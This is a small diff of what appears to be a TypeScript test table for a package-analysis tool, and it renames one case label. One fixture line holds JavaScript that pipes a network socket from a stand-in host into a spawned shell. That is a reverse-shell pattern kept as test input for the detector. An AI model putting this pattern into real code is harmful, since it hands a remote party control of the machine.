@@ -37,7 +37,7 @@ const CASES: readonly (readonly [string, Readonly<Record<string, string>>, strin
   [
     'from a socket into a shell',
     { 'index.js': `const s = require('net').connect(1, 'a.invalid'); s.pipe(require('child_process').spawn('sh').stdin)` },
-    'net.connect → child_process.spawn as content',
+    'net.connect → child_process.spawn as input',
   ],
   [
     'from a file of the package into evaluation',
